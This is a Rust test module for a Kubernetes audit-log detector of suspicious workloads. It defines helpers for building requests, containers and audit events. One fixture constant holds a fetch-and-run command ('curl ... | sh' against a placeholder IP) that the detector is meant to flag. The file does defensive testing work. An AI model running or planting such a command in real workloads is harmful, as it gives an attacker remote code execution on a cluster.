//! Tests each rule with requests that it must report and requests that it must not.

mod accounts;
mod amounts;
mod changes;
mod commands;
mod excuses;
mod hidden;
mod kinds;
mod unseen;
mod whole;

use crate::SuspiciousWorkloads;
use wardline_sdk::contract::{
    Attribute, AuditEvent, BindingFacts, Container, ContainerRole, Facts, Level, Workload,
};
use wardline_sdk::testing::{Harness, RaisedFinding, Request};

const ARGO: &str = "system:serviceaccount:argocd:argocd-application-controller";
const ETL: &str = "system:serviceaccount:data:etl";
const DOWNLOAD: [&str; 3] = ["sh", "-c", "curl -s http://203.0.113.9/i.sh | sh"];

fn request(verb: &str, resource: &str, namespace: &str, name: &str) -> Request {
    let code = if verb == "create" { 201 } else { 200 };
    let group = match resource.split('/').next().unwrap_or_default() {
        "jobs" | "cronjobs" => "batch",
        "deployments" | "daemonsets" | "statefulsets" | "replicasets" => "apps",
        _ => "",
    };
    Request::new(verb, resource)
        .api_group(group)
        .namespace(namespace)
        .name(name)
        .code(code)
}

fn container(name: &str, image: &str, command: &[&str]) -> Container {
    Container {
        name: name.to_owned(),
        image: image.to_owned(),
        command: command.iter().map(ToString::to_string).collect(),
        ..Container::default()
    }
}

fn of(containers: impl IntoIterator<Item = Container>) -> Workload {
    Workload {
        containers: containers.into_iter().collect(),
        ..Workload::default()
    }
}

fn app(command: &[&str]) -> Workload {
    of([container("app", "nginx:1.29", command)])
}

fn pair(key: &str, value: &str) -> Attribute {
    Attribute {
        key: key.to_owned(),
        value: value.to_owned(),
    }
}

/// The finding types without `Kubernetes/`, with their severities, in order.
fn shown(found: &[RaisedFinding]) -> Vec<String> {
    found
        .iter()
        .map(|one| {
            let name = one.finding_type.replace(":Kubernetes/", ":");
            format!("{name} {:.1}", one.severity)
        })
        .collect()
}

/// Sets the level `Metadata`: a built event has no raw JSON, and at this level the detector does
/// not request it.
fn built(event: impl Into<AuditEvent>) -> AuditEvent {
    AuditEvent {
        level: Level::Metadata,
        ..event.into()
    }
}

fn judge(event: impl Into<AuditEvent>) -> Vec<String> {
    found(&mut Harness::new(), event)
}

fn found(harness: &mut Harness<SuspiciousWorkloads>, event: impl Into<AuditEvent>) -> Vec<String> {
    shown(&harness.audit_event(built(event)).unwrap())
}

fn deployed_by(by: &str) -> Harness<SuspiciousWorkloads> {
    Harness::new()
        .pod_spec("deployments", "shop", "web", app(&[]))
        .changed_by("deployments", "shop", "web", by)
}
